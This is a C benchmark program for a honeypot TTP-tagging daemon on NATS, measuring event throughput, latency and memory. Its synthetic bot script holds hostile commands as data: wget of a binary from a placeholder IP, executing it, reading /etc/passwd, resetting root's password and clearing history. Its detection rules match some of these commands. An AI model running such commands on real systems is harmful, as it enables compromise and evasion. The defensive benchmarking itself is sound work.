/*
 * bench_bus: ttpd end to end on NATS.
 *
 * Starts its own nats-server on a free loopback port and the real
 * host/ttpd daemon, publishes N command events in attacker.session.ended
 * envelopes and measures, for core and JetStream mode and two workloads:
 *   - events/s into SQLite at full publishing speed (first publish to the
 *     last row committed);
 *   - the latency from publish to the arrival of the event's ttp.tagged
 *     (published right after the commit), p50 and p99, at full speed and
 *     paced at 10 000 events/s;
 *   - the daemon's peak resident memory.
 * In the same run it prints the raw ceilings: plain NATS pub/sub, JetStream
 * fetch(1000)+ack, SQLite batched insert, so the ratio is visible.
 *
 * Then it overloads the daemon (core, then JetStream) for S seconds and
 * samples its resident memory, which must stay flat.
 *
 * Workloads (W):
 *   worst      one command per envelope, every envelope a new attacker and
 *              a new session, every command tagged: the most index pages
 *              per row and the most bus messages per tag;
 *   realistic  honeypot-like: few attackers (40 active at a time, a new
 *              one every 10 sessions), each session one envelope of 20
 *              commands of a typical bot script, 8 of which match a rule
 *              (one tag each).  N counts commands, so N/20 envelopes.
 *   both       (default) realistic, then worst.
 *
 *   bench_bus [N [S [W]]]  (defaults 100000, 20, both; env BENCH_BUS_N,
 *                          BENCH_BUS_OVERLOAD_S, BENCH_BUS_WORKLOAD too;
 *                          S < 4 skips the overload)
 *
 * BENCH_BUS_BASELINE=<build dir of another ttpd> runs every measurement
 * with that build's daemon first, then with this one, in the same session
 * (before/after figures under the same load).  BENCH_BUS_TAIL=1 also
 * lists the slowest 1% of events of each run (envelope, latency, when it
 * was published), to see where a latency tail comes from.
 *
 * Figures depend on the machine and on what else runs on it.
 */
#include "config.h"

#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <sqlite3.h>
#include <stdatomic.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/prctl.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#include <nats/nats.h>

#include "store.h"
#include "tag.h"

static char dir[64];
static char url[128];
static pid_t nats_pid, ttpd_pid;

static int64_t
now_ns(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (int64_t)ts.tv_sec * 1000000000 + ts.tv_nsec;
}

static void
msleep(int ms)
{
	struct timespec ts = { ms / 1000, (long)(ms % 1000) * 1000000L };

	nanosleep(&ts, NULL);
}

static void
die(const char *fmt, const char *arg)
{
	fprintf(stderr, "bench_bus: ");
	fprintf(stderr, fmt, arg);
	fprintf(stderr, "\n");
	exit(1);
}

static void
stop(pid_t *pid)
{
	int i;

	if (*pid <= 0)
		return;
	kill(*pid, SIGTERM);
	for (i = 0; i < 300 && waitpid(*pid, NULL, WNOHANG) == 0; i++)
		msleep(50);
	if (i == 300) {
		kill(*pid, SIGKILL);
		waitpid(*pid, NULL, 0);
	}
	*pid = 0;
}

static void
cleanup(void)
{
	char cmd[512];

	stop(&ttpd_pid);
	stop(&nats_pid);
	if (getenv("BENCH_BUS_KEEP") != NULL)
		fprintf(stderr, "kept %s\n", dir);
	else if (strncmp(dir, "/tmp/ttpd-bench.", 16) == 0) {
		snprintf(cmd, sizeof cmd, "rm -rf '%s'", dir);
		if (system(cmd) != 0)
			fprintf(stderr, "could not remove %s\n", dir);
	}
}

static void
on_signal(int sig)
{
	(void)sig;
	exit(1); /* atexit cleanup */
}

static pid_t
spawn(const char *const *argv, const char *log)
{
	pid_t pid = fork();
	int fd;

	if (pid < 0)
		die("fork: %s", strerror(errno));
	if (pid == 0) {
		prctl(PR_SET_PDEATHSIG, SIGKILL);
		if ((fd = open(log, O_WRONLY | O_CREAT | O_APPEND, 0644)) >= 0) {
			dup2(fd, 1);
			dup2(fd, 2);
		}
		execv(argv[0], (char *const *)(uintptr_t)argv);
		_exit(127);
	}
	return pid;
}

static void
start_nats(void)
{
	char store[512], log[512], ports[512], buf[512], *p, *q;
	const char *argv[] = { "/usr/sbin/nats-server", "-a", "127.0.0.1",
		"-p", "-1", "-m", "-1", "-js", "-sd", store,
		"--ports_file_dir", dir, NULL };
	FILE *fp;
	int i;

	snprintf(store, sizeof store, "%s/store", dir);
	snprintf(log, sizeof log, "%s/nats.log", dir);
	nats_pid = spawn(argv, log);
	snprintf(ports, sizeof ports, "%s/nats-server_%ld.ports", dir,
	    (long)nats_pid);
	for (i = 0; i < 400; i++, msleep(25)) {
		if ((fp = fopen(ports, "r")) == NULL)
			continue;
		buf[fread(buf, 1, sizeof buf - 1, fp)] = '\0';
		fclose(fp);
		if ((p = strstr(buf, "\"nats\":[\"")) != NULL &&
		    (q = strchr(p + 9, '"')) != NULL) {
			*q = '\0';
			snprintf(url, sizeof url, "%s", p + 9);
			return;
		}
	}
	die("nats-server did not start (see %s)", log);
}

static natsConnection *
connect_nats(void)
{
	natsConnection *nc;
	natsOptions *o;

	natsOptions_Create(&o);
	natsOptions_SetURL(o, url);
	natsOptions_SetReconnectBufSize(o, 64 * 1024 * 1024);
	natsOptions_SetMaxPendingMsgs(o, 1000000);
	if (natsConnection_Connect(&nc, o) != NATS_OK)
		die("cannot connect to %s", url);
	natsOptions_Destroy(o);
	return nc;
}

/* The workload (see the header) and the daemon build under test. */
enum workload { WL_WORST, WL_REALISTIC };
static enum workload wl;
static const char *daemon_dir;

#define REAL_CMDS 20       /* commands per realistic session */
#define REAL_TAGS 8        /* of which tagged */
#define REAL_ACTIVE 40     /* attackers active at a time */

/*
 * A bot's session script (after a typical Cowrie/DECNET capture): 8 of
 * the 20 commands match one of the bench rules below, once each.
 */
static const struct {
	const char *fmt;	/* %d: the session number */
	int tagged;
} script[REAL_CMDS] = {
	{ "uname -a", 1 },
	{ "cat /proc/cpuinfo | grep name | wc -l", 1 },
	{ "free -m | grep Mem", 0 },
	{ "ls -lh $(which ls)", 0 },
	{ "crontab -l", 1 },
	{ "w", 0 },
	{ "cd /tmp || cd /var/run || cd /mnt", 0 },
	{ "wget http://198.51.100.7/bins/x86_%d", 1 },
	{ "chmod +x x86_%d", 1 },
	{ "./x86_%d ssh.bot", 0 },
	{ "rm -rf x86_%d", 0 },
	{ "echo -e hello", 0 },
	{ "cat /etc/passwd", 1 },
	{ "history -c", 1 },
	{ "ps aux", 0 },
	{ "echo root:Passw0rd%d|chpasswd", 1 },
	{ "ls -la /home", 0 },
	{ "df -h", 0 },
	{ "export HISTFILE=/dev/null", 0 },
	{ "exit", 0 },
};

/* Commands and tags per envelope. */
static int
cmds_per_env(void)
{
	return wl == WL_REALISTIC ? REAL_CMDS : 1;
}

static int
tags_per_env(void)
{
	return wl == WL_REALISTIC ? REAL_TAGS : 1;
}

/* Envelope n; its session id "sess-<n>" lets ttp.tagged be matched. */
static char *
session_env(int n)
{
	char *s, *cmds = NULL, *p, cmd[128];
	unsigned att;
	int k;

	if (wl == WL_WORST) {
		att = (unsigned)n;
		if (asprintf(&cmds, "{\"id\":\"sess-%d#0\",\"command_text\":"
		    "\"wget http://198.51.100.7/x%d\"}", n, n) < 0)
			die("%s", "out of memory");
	} else {
		/* REAL_ACTIVE attackers at a time, drifting slowly */
		att = (unsigned)(n / 10 + n % REAL_ACTIVE);
		for (k = 0; k < REAL_CMDS; k++) {
			snprintf(cmd, sizeof cmd, script[k].fmt, n);
			if (asprintf(&p, "%s%s{\"id\":\"sess-%d#%d\","
			    "\"command_text\":\"%s\"}", cmds != NULL ? cmds :
			    "", k > 0 ? "," : "", n, k, cmd) < 0)
				die("%s", "out of memory");
			free(cmds);
			cmds = p;
		}
	}
	if (asprintf(&s,
	    "{\"v\":1,\"id\":\"%032x\",\"topic\":\"attacker.session.ended\","
	    "\"type\":\"session.ended\",\"ts\":1700000000.5,\"payload\":{"
	    "\"session_id\":\"sess-%d\",\"attacker_uuid\":"
	    "\"%08x-0000-4000-8000-%012u\",\"attacker_ip\":\"10.%u.%u.%u\","
	    "\"decky_id\":\"decky-%u\",\"service\":\"ssh\",\"commands\":"
	    "[%s]}}", (unsigned)n, n, att * 2654435761u, att, (att >> 16) & 255,
	    (att >> 8) & 255, att & 255, att % 24, cmds) < 0)
		die("%s", "out of memory");
	free(cmds);
	return s;
}

/* The bench's rules: one per tagged script command, and wget for the
 * worst case. */
static void
write_rules(const char *rdir)
{
	static const struct {
		const char *id, *pattern, *tactic, *tech;
	} rules[] = {
		{ "TB0001", "\\bwget\\b", "TA0011", "T1105" },
		{ "TB0002", "^uname\\b", "TA0007", "T1082" },
		{ "TB0003", "/proc/cpuinfo", "TA0007", "T1082" },
		{ "TB0004", "\\bcrontab\\s+-l", "TA0007", "T1053" },
		{ "TB0005", "\\bchmod\\s+\\+x", "TA0005", "T1222" },
		{ "TB0006", "/etc/passwd", "TA0006", "T1003" },
		{ "TB0007", "\\bhistory\\s+-c", "TA0005", "T1070" },
		{ "TB0008", "\\bchpasswd\\b", "TA0003", "T1098" },
	};
	char path[1024];
	FILE *fp;
	size_t i;

	for (i = 0; i < sizeof rules / sizeof *rules; i++) {
		snprintf(path, sizeof path, "%s/%s.yaml", rdir, rules[i].id);
		if ((fp = fopen(path, "w")) == NULL)
			die("cannot write %s", path);
		fprintf(fp, "rule_id: %s\nrule_version: 1\nname: bench %s\n"
		    "description: bench\napplies_to: [command]\n"
		    "match:\n  field: command_text\n  pattern: '%s'\n"
		    "emits:\n  - tactic: %s\n    technique_id: %s\n"
		    "    confidence: 0.8\nevidence_fields: [command_text]\n",
		    rules[i].id, rules[i].id, rules[i].pattern,
		    rules[i].tactic, rules[i].tech);
		fclose(fp);
	}
}

/* ------------------------------------------------------- ceilings */

static atomic_long core_recv;

static void
count_cb(natsConnection *nc, natsSubscription *sub, natsMsg *m, void *c)
{
	atomic_fetch_add(&core_recv, 1);
	natsMsg_Destroy(m);
}

static void
ceiling_core(int n)
{
	natsConnection *pub = connect_nats(), *subc = connect_nats();
	natsSubscription *sub;
	char *env = session_env(1);
	int64_t t0, t1;
	int i;

	natsConnection_Subscribe(&sub, subc, "bench.core", count_cb, NULL);
	natsSubscription_SetPendingLimits(sub, -1, -1);
	natsConnection_Flush(subc);
	atomic_store(&core_recv, 0);
	t0 = now_ns();
	for (i = 0; i < n; i++)
		natsConnection_PublishString(pub, "bench.core", env);
	natsConnection_Flush(pub);
	while (atomic_load(&core_recv) < n && now_ns() - t0 < 60e9)
		msleep(1);
	t1 = now_ns();
	printf("ceiling   nats core publish -> subscriber    %9.0f msg/s\n",
	    (double)atomic_load(&core_recv) / ((double)(t1 - t0) / 1e9));
	natsSubscription_Destroy(sub);
	natsConnection_Destroy(pub);
	natsConnection_Destroy(subc);
	free(env);
}

static void
ceiling_js(int n)
{
	natsConnection *nc = connect_nats();
	natsSubscription *sub;
	jsCtx *js;
	jsOptions jo;
	jsStreamConfig sc;
	jsConsumerConfig cc;
	jsSubOptions so;
	natsMsgList list;
	const char *subj[] = { "bench.js" };
	char *env = session_env(1);
	int64_t t0, t1;
	int i, got = 0;

	jsOptions_Init(&jo);
	jo.PublishAsync.MaxPending = 4000;
	natsConnection_JetStream(&js, nc, &jo);
	jsStreamConfig_Init(&sc);
	sc.Name = "BENCHCEIL";
	sc.Subjects = subj;
	sc.SubjectsLen = 1;
	if (js_AddStream(NULL, js, &sc, NULL, NULL) != NATS_OK)
		die("%s", "cannot create the ceiling stream");
	for (i = 0; i < n; i++)
		js_PublishAsync(js, "bench.js", env, (int)strlen(env), NULL);
	js_PublishAsyncComplete(js, NULL);
	jsConsumerConfig_Init(&cc);
	cc.Durable = "ceil";
	cc.AckPolicy = js_AckExplicit;
	cc.MaxAckPending = 4000;
	js_AddConsumer(NULL, js, "BENCHCEIL", &cc, NULL, NULL);
	jsSubOptions_Init(&so);
	so.Stream = "BENCHCEIL";
	so.Consumer = "ceil";
	if (js_PullSubscribe(&sub, js, "bench.js", "ceil", NULL, &so, NULL) !=
	    NATS_OK)
		die("%s", "cannot bind the ceiling consumer");
	t0 = now_ns();
	while (got < n && now_ns() - t0 < 120e9) {
		if (natsSubscription_Fetch(&list, sub, 1000, 1000, NULL) !=
		    NATS_OK)
			continue;
		for (i = 0; i < list.Count; i++)
			natsMsg_Ack(list.Msgs[i], NULL);
		got += list.Count;
		natsMsgList_Destroy(&list);
	}
	natsConnection_Flush(nc);
	t1 = now_ns();
	printf("ceiling   jetstream fetch(1000) + ack        %9.0f msg/s\n",
	    (double)got / ((double)(t1 - t0) / 1e9));
	natsSubscription_Destroy(sub);
	js_DeleteStream(js, "BENCHCEIL", NULL, NULL);
	jsCtx_Destroy(js);
	natsConnection_Destroy(nc);
	free(env);
}

static void
ceiling_sqlite(int n)
{
	struct store *s;
	struct tag *tags;
	char path[512], err[512], id[64];
	int64_t t0, t1;
	int i, k;

	snprintf(path, sizeof path, "%s/ceiling.db", dir);
	if ((s = store_open(path, NULL, err, sizeof err)) == NULL)
		die("%s", err);
	tags = calloc(1000, sizeof *tags);
	t0 = now_ns();
	for (i = 0; i < n; i += 1000) {
		for (k = 0; k < 1000; k++) {
			struct tag *t = &tags[k];

			snprintf(id, sizeof id, "sess-%d#0", i + k);
			tag_uuid("command", id, "TI0001", 1, "T1105", NULL,
			    t->uuid);
			/* the store only reads these */
			t->source_kind = (char *)(uintptr_t)"command";
			t->source_id = id;
			t->attacker_uuid = (char *)(uintptr_t)"att-1";
			t->tactic = (char *)(uintptr_t)"TA0011";
			t->technique_id = (char *)(uintptr_t)"T1105";
			t->confidence = 0.8;
			t->rule_id = (char *)(uintptr_t)"TI0001";
			t->rule_version = 1;
			t->evidence = (char *)(uintptr_t)"{}";
			t->attack_release = (char *)(uintptr_t)"v15.1";
			tag_format_time(tag_now_ns(), t->created_at);
		}
		store_begin(s);
		store_insert_tags(s, tags, 1000, NULL);
		store_commit(s);
	}
	t1 = now_ns();
	printf("ceiling   sqlite insert, 1000 rows per txn   %9.0f rows/s "
	    "(ttp_tag: random uuid key, the 9 indexes of store.indexes = compact)\n",
	    (double)n / ((double)(t1 - t0) / 1e9));
	free(tags);
	store_close(s);
}

/* ------------------------------------------------------ the daemon */

static int64_t *pub_ns, *tag_ns;
static int nevents;
static atomic_long tagged;

static void
tagged_cb(natsConnection *nc, natsSubscription *sub, natsMsg *m, void *c)
{
	const char *p = strstr(natsMsg_GetData(m), "\"session_id\":\"sess-");
	int64_t t = now_ns();
	long i;

	if (p != NULL) {
		i = strtol(p + 19, NULL, 10);
		if (i >= 0 && i < nevents && tag_ns[i] == 0) {
			tag_ns[i] = t;
			atomic_fetch_add(&tagged, 1);
		}
	}
	natsMsg_Destroy(m);
}

static long
rows(const char *db)
{
	sqlite3 *h;
	sqlite3_stmt *st;
	long n = -1;

	if (sqlite3_open_v2(db, &h, SQLITE_OPEN_READONLY, NULL) == SQLITE_OK &&
	    sqlite3_prepare_v2(h, "SELECT count(*) FROM ttp_tag", -1, &st,
	    NULL) == SQLITE_OK) {
		sqlite3_busy_timeout(h, 2000);
		if (sqlite3_step(st) == SQLITE_ROW)
			n = sqlite3_column_int64(st, 0);
		sqlite3_finalize(st);
	}
	sqlite3_close(h);
	return n;
}

static long
max_rss_kib(pid_t pid)
{
	char path[64], line[256];
	FILE *fp;
	long kib = -1;

	snprintf(path, sizeof path, "/proc/%ld/status", (long)pid);
	if ((fp = fopen(path, "r")) == NULL)
		return -1;
	while (fgets(line, sizeof line, fp) != NULL)
		if (strncmp(line, "VmHWM:", 6) == 0)
			kib = strtol(line + 6, NULL, 10);
	fclose(fp);
	return kib;
}

static long
rss_kib(pid_t pid)
{
	char path[64], line[256];
	FILE *fp;
	long kib = -1;

	snprintf(path, sizeof path, "/proc/%ld/status", (long)pid);
	if ((fp = fopen(path, "r")) == NULL)
		return -1;
	while (fgets(line, sizeof line, fp) != NULL)
		if (strncmp(line, "VmRSS:", 6) == 0)
			kib = strtol(line + 6, NULL, 10);
	fclose(fp);
	return kib;
}

static int
cmp_i64(const void *a, const void *b)
{
	int64_t x = *(const int64_t *)a, y = *(const int64_t *)b;

	return x < y ? -1 : x > y;
}

/*
 * One run: a fresh database and daemon, n events at `rate` per second
 * (0: as fast as possible).
 */
static void
run(const char *mode, int ncmds, int rate, int run_no)
{
	char sub[300], conf[512], db[512], log[512], bin[512], *text;
	const char *bdir = daemon_dir;
	const char *argv[] = { bin, "-f", "-c", conf, NULL };
	natsConnection *pubc, *subc;
	natsSubscription *tsub, *hsub;
	natsMsg *m;
	jsCtx *js = NULL;
	int64_t t0, last_progress, end_ns = 0, *lat;
	long r, prev = -1, rss, want;
	int i, nlat = 0, js_mode = strcmp(mode, "jetstream") == 0;
	int n = ncmds / cmds_per_env();
	double secs;
	FILE *fp;

	want = (long)n * tags_per_env();
	snprintf(sub, sizeof sub, "%s/run%d", dir, run_no);
	mkdir(sub, 0755);
	snprintf(conf, sizeof conf, "%s/ttpd.conf", sub);
	snprintf(db, sizeof db, "%s/ttpd.db", sub);
	snprintf(log, sizeof log, "%s/ttpd.log", sub);
	snprintf(bin, sizeof bin, "%s/host/ttpd", bdir);
	if ((fp = fopen(conf, "w")) == NULL)
		die("cannot write %s", conf);
	fprintf(fp, "store: { path = \"%s\"; };\n"
	    "rules: { dirs = [ \"%s/rules\" ]; };\n"
	    "plugins: { dir = \"%s/plugins/.libs\"; load = ( { name = "
	    "\"rule_engine\"; } ); };\n"
	    "log: { level = \"notice\"; };\n"
	    "bus: { servers = [ \"%s\" ]; mode = \"%s\"; heartbeat_s = 1; "
	    "stream = \"BENCH%d\"; subjects = [ \"attacker.session.ended\" ]; "
	    "};\n", db, dir, bdir, url, mode, run_no);
	fclose(fp);

	pubc = connect_nats();
	subc = connect_nats();
	natsConnection_SubscribeSync(&hsub, subc, "system.ttp.health");
	nevents = n;
	pub_ns = calloc((size_t)n, sizeof *pub_ns);
	tag_ns = calloc((size_t)n, sizeof *tag_ns);
	lat = calloc((size_t)n, sizeof *lat);
	atomic_store(&tagged, 0);
	natsConnection_Subscribe(&tsub, subc, "ttp.tagged", tagged_cb, NULL);
	natsSubscription_SetPendingLimits(tsub, -1, -1);
	natsConnection_Flush(subc);
	ttpd_pid = spawn(argv, log);
	if (natsSubscription_NextMsg(&m, hsub, 20000) != NATS_OK)
		die("ttpd did not start (see %s)", log);
	natsMsg_Destroy(m);
	if (js_mode) {
		jsOptions jo;

		jsOptions_Init(&jo);
		jo.PublishAsync.MaxPending = 4000;
		natsConnection_JetStream(&js, pubc, &jo);
	}

	t0 = now_ns();
	for (i = 0; i < n; i++) {
		char *env = session_env(i);

		if (rate > 0) {
			/* sleep, not spin: the daemon needs the cores */
			int64_t due = t0 + (int64_t)i * cmds_per_env() *
			    1000000000 / rate;
			int64_t ahead = due - now_ns();

			if (ahead > 0) {
				struct timespec ts = { 0, (long)ahead };

				nanosleep(&ts, NULL);
			}
		}
		pub_ns[i] = now_ns();
		if (js_mode)
			js_PublishAsync(js, "attacker.session.ended", env,
			    (int)strlen(env), NULL);
		else
			natsConnection_PublishString(pubc,
			    "attacker.session.ended", env);
		free(env);
	}
	if (js_mode)
		js_PublishAsyncComplete(js, NULL);
	natsConnection_Flush(pubc);
	/* until every tag is in, or nothing moves for 3 s */
	last_progress = now_ns();
	for (;;) {
		r = rows(db);
		if (r != prev) {
			prev = r;
			last_progress = now_ns();
			end_ns = last_progress;
		}
		if (r >= want || now_ns() - last_progress > 3000000000LL)
			break;
		msleep(5);
	}
	msleep(200); /* the last ttp.tagged */
	rss = max_rss_kib(ttpd_pid);
	for (i = 0; i < n; i++)
		if (tag_ns[i] > 0)
			lat[nlat++] = tag_ns[i] - pub_ns[i];
	if (getenv("BENCH_BUS_TAIL") != NULL) {
		/* where the slowest events were (debugging the tail) */
		int64_t thr;
		int64_t *cp = calloc((size_t)n, sizeof *cp);

		memcpy(cp, lat, (size_t)nlat * sizeof *lat);
		qsort(cp, (size_t)nlat, sizeof *cp, cmp_i64);
		thr = nlat > 0 ? cp[(size_t)((double)nlat * 0.99)] : 0;
		printf("tail: ");
		for (i = 0; i < n; i++)
			if (tag_ns[i] > 0 && tag_ns[i] - pub_ns[i] >= thr)
				printf("%d:%.0fms@%.0fms ", i, (double)(tag_ns[i] -
				    pub_ns[i]) / 1e6, (double)(pub_ns[i] - t0) /
				    1e6);
		printf("\n");
		free(cp);
	}
	qsort(lat, (size_t)nlat, sizeof *lat, cmp_i64);
	secs = (double)(end_ns - t0) / 1e9;
	if (rate == 0)
		printf("%-9s full speed: %8.0f command events/s, %7.0f tags/s "
		    "into SQLite (%ld of %ld tags in %.2f s)", mode,
		    (double)prev / tags_per_env() * cmds_per_env() / secs,
		    (double)prev / secs, prev, want, secs);
	else
		printf("%-9s paced %d command events/s: %ld of %ld tags", mode,
		    rate, prev, want);
	if (nlat > 0)
		printf("; publish->ttp.tagged p50 %.1f ms p99 %.1f ms",
		    (double)lat[nlat / 2] / 1e6,
		    (double)lat[(size_t)((double)nlat * 0.99)] / 1e6);
	printf("; ttpd peak RSS %.1f MiB\n", (double)rss / 1024.0);
	stop(&ttpd_pid);
	if ((text = malloc(4096)) != NULL) {
		/* the daemon's own totals line */
		if ((fp = fopen(log, "r")) != NULL) {
			while (fgets(text, 4096, fp) != NULL)
				if (strstr(text, "stopped:") != NULL)
					printf("          %s", text);
			fclose(fp);
		}
		free(text);
	}
	if (js != NULL) {
		char stream[32];

		/* the next run's stream takes the same subjects */
		snprintf(stream, sizeof stream, "BENCH%d", run_no);
		js_DeleteStream(js, stream, NULL, NULL);
		jsCtx_Destroy(js);
	}
	natsSubscription_Destroy(tsub);
	natsSubscription_Destroy(hsub);
	natsConnection_Destroy(pubc);
	natsConnection_Destroy(subc);
	free(pub_ns);
	free(tag_ns);
	free(lat);
}

/*
 * Overload: publish as fast as possible for `secs` seconds and sample the
 * daemon's resident memory every second; it must stay flat (bounded
 * queue in core mode, bounded fetches in JetStream mode).
 */
static void
overload(const char *mode, int secs, int run_no)
{
	char sub[300], conf[512], db[512], log[512], bin[512], line[4096];
	const char *bdir = daemon_dir;
	const char *argv[] = { bin, "-f", "-c", conf, NULL };
	natsConnection *pubc, *subc;
	natsSubscription *hsub;
	natsMsg *m;
	jsCtx *js = NULL;
	long rss[4] = { 0, 0, 0, 0 }, r, maxr = 0, published = 0;
	int64_t t0, next;
	int sec = 0, js_mode = strcmp(mode, "jetstream") == 0;
	FILE *fp;

	snprintf(sub, sizeof sub, "%s/run%d", dir, run_no);
	mkdir(sub, 0755);
	snprintf(conf, sizeof conf, "%s/ttpd.conf", sub);
	snprintf(db, sizeof db, "%s/ttpd.db", sub);
	snprintf(log, sizeof log, "%s/ttpd.log", sub);
	snprintf(bin, sizeof bin, "%s/host/ttpd", bdir);
	if ((fp = fopen(conf, "w")) == NULL)
		die("cannot write %s", conf);
	fprintf(fp, "store: { path = \"%s\"; };\n"
	    "rules: { dirs = [ \"%s/rules\" ]; };\n"
	    "plugins: { dir = \"%s/plugins/.libs\"; load = ( { name = "
	    "\"rule_engine\"; } ); };\n"
	    "log: { level = \"notice\"; };\n"
	    "bus: { servers = [ \"%s\" ]; mode = \"%s\"; heartbeat_s = 1; "
	    "stream = \"OVER%d\"; subjects = [ \"attacker.session.ended\" ]; "
	    "stream_retention = \"workqueue\"; };\n", db, dir, bdir, url,
	    mode, run_no);
	fclose(fp);
	pubc = connect_nats();
	subc = connect_nats();
	natsConnection_SubscribeSync(&hsub, subc, "system.ttp.health");
	ttpd_pid = spawn(argv, log);
	if (natsSubscription_NextMsg(&m, hsub, 20000) != NATS_OK)
		die("ttpd did not start (see %s)", log);
	natsMsg_Destroy(m);
	natsSubscription_Destroy(hsub);
	if (js_mode) {
		jsOptions jo;

		jsOptions_Init(&jo);
		jo.PublishAsync.MaxPending = 4000;
		natsConnection_JetStream(&js, pubc, &jo);
	}
	t0 = now_ns();
	next = t0 + 1000000000LL;
	while (sec < secs) {
		int k;

		for (k = 0; k < 500; k++, published++) {
			char *env = session_env((int)(published % 2000000000));

			if (js_mode)
				js_PublishAsync(js, "attacker.session.ended",
				    env, (int)strlen(env), NULL);
			else
				natsConnection_PublishString(pubc,
				    "attacker.session.ended", env);
			free(env);
		}
		if (now_ns() >= next) {
			next += 1000000000LL;
			sec++;
			r = rss_kib(ttpd_pid);
			if (r > maxr)
				maxr = r;
			if (sec == 1)
				rss[0] = r;
			if (sec == secs / 4)
				rss[1] = r;
			if (sec == secs / 2)
				rss[2] = r;
			if (sec == secs)
				rss[3] = r;
		}
	}
	if (js_mode)
		js_PublishAsyncComplete(js, NULL);
	natsConnection_Flush(pubc);
	printf("%-9s overload %d s: %ld envelopes published; ttpd RSS at 1 s %.1f, "
	    "%d s %.1f, %d s %.1f, %d s %.1f MiB (max %.1f); %ld rows\n",
	    mode, secs, published, rss[0] / 1024.0, secs / 4,
	    rss[1] / 1024.0, secs / 2, rss[2] / 1024.0, secs,
	    rss[3] / 1024.0, maxr / 1024.0, rows(db) < 0 ? 0 : rows(db));
	stop(&ttpd_pid);
	if ((fp = fopen(log, "r")) != NULL) {
		while (fgets(line, sizeof line, fp) != NULL)
			if (strstr(line, "stopped:") != NULL)
				printf("          %s", line);
		fclose(fp);
	}
	if (js != NULL) {
		char stream[32];

		snprintf(stream, sizeof stream, "OVER%d", run_no);
		js_DeleteStream(js, stream, NULL, NULL);
		jsCtx_Destroy(js);
	}
	natsConnection_Destroy(pubc);
	natsConnection_Destroy(subc);
}

/* One measurement for each daemon build (baseline first). */
static void
measure(const char *base, const char *what, void (*fn)(const char *, int,
    int, int), const char *mode, int n, int rate, int *run_no)
{
	const char *self = getenv("TTPD_BUILDDIR");

	if (base != NULL) {
		daemon_dir = base;
		printf("[baseline %s] ", what);
		fn(mode, n, rate, (*run_no)++);
		printf("[this build %s] ", what);
	}
	daemon_dir = self;
	fn(mode, n, rate, (*run_no)++);
}

static void
overload_fn(const char *mode, int secs, int unused, int run_no)
{
	(void)unused;
	overload(mode, secs, run_no);
}

static void
workload(const char *base, int n, int overload_s, int *run_no)
{
	int paced = n / 4 > 30000 ? 30000 : n / 4;

	printf("-- workload %s: %s\n", wl == WL_REALISTIC ? "realistic" :
	    "worst", wl == WL_REALISTIC ? "sessions of 20 commands (8 "
	    "tagged) in one envelope each, 40 attackers active at a time" :
	    "one command per envelope, each a new attacker and session, "
	    "every command tagged");
	measure(base, "core", run, "core", n, 0, run_no);
	measure(base, "core", run, "core", paced, 10000, run_no);
	measure(base, "jetstream", run, "jetstream", n, 0, run_no);
	measure(base, "jetstream", run, "jetstream", paced, 10000, run_no);
	if (overload_s >= 4) {
		measure(base, "core", overload_fn, "core", overload_s, 0,
		    run_no);
		measure(base, "jetstream", overload_fn, "jetstream",
		    overload_s, 0, run_no);
	}
}

int
main(int argc, char **argv)
{
	char tmpl[] = "/tmp/ttpd-bench.XXXXXX", path[512];
	const char *env = getenv("BENCH_BUS_N");
	const char *ov = getenv("BENCH_BUS_OVERLOAD_S");
	const char *wls = argc > 3 ? argv[3] : getenv("BENCH_BUS_WORKLOAD");
	const char *base = getenv("BENCH_BUS_BASELINE");
	int n = argc > 1 ? atoi(argv[1]) : env != NULL ? atoi(env) : 100000;
	int overload_s = argc > 2 ? atoi(argv[2]) : ov != NULL ? atoi(ov) :
	    20;
	int run_no = 1, do_real, do_worst;

	if (wls == NULL)
		wls = "both";
	do_real = strcmp(wls, "both") == 0 || strcmp(wls, "realistic") == 0;
	do_worst = strcmp(wls, "both") == 0 || strcmp(wls, "worst") == 0;
	if (!do_real && !do_worst)
		die("unknown workload %s (realistic, worst or both)", wls);
	if (n < 1000)
		n = 1000;
	if (getenv("TTPD_BUILDDIR") == NULL)
		die("%s", "set TTPD_BUILDDIR (make bench does)");
	if (base != NULL) {
		snprintf(path, sizeof path, "%s/host/ttpd", base);
		if (access(path, X_OK) != 0)
			die("BENCH_BUS_BASELINE: no daemon at %s", path);
	}
	if (access("/usr/sbin/nats-server", X_OK) != 0)
		die("%s", "/usr/sbin/nats-server is missing (apt-get install "
		    "nats-server)");
	if (mkdtemp(tmpl) == NULL)
		die("mkdtemp: %s", strerror(errno));
	snprintf(dir, sizeof dir, "%s", tmpl);
	atexit(cleanup);
	signal(SIGINT, on_signal);
	signal(SIGTERM, on_signal);
	snprintf(path, sizeof path, "%s/rules", dir);
	mkdir(path, 0755);
	write_rules(path);
	start_nats();
	printf("bench_bus: N=%d command events per run; nats-server, "
	    "publisher and ttpd on this machine (figures from a shared "
	    "machine vary by tens of %%)\n", n);
	wl = WL_WORST;
	ceiling_core(n);
	ceiling_js(n);
	ceiling_sqlite(n);
	if (do_real) {
		wl = WL_REALISTIC;
		workload(base, n, overload_s, &run_no);
	}
	if (do_worst) {
		wl = WL_WORST;
		workload(base, n, overload_s, &run_no);
	}
	nats_Close();
	return 0;
}
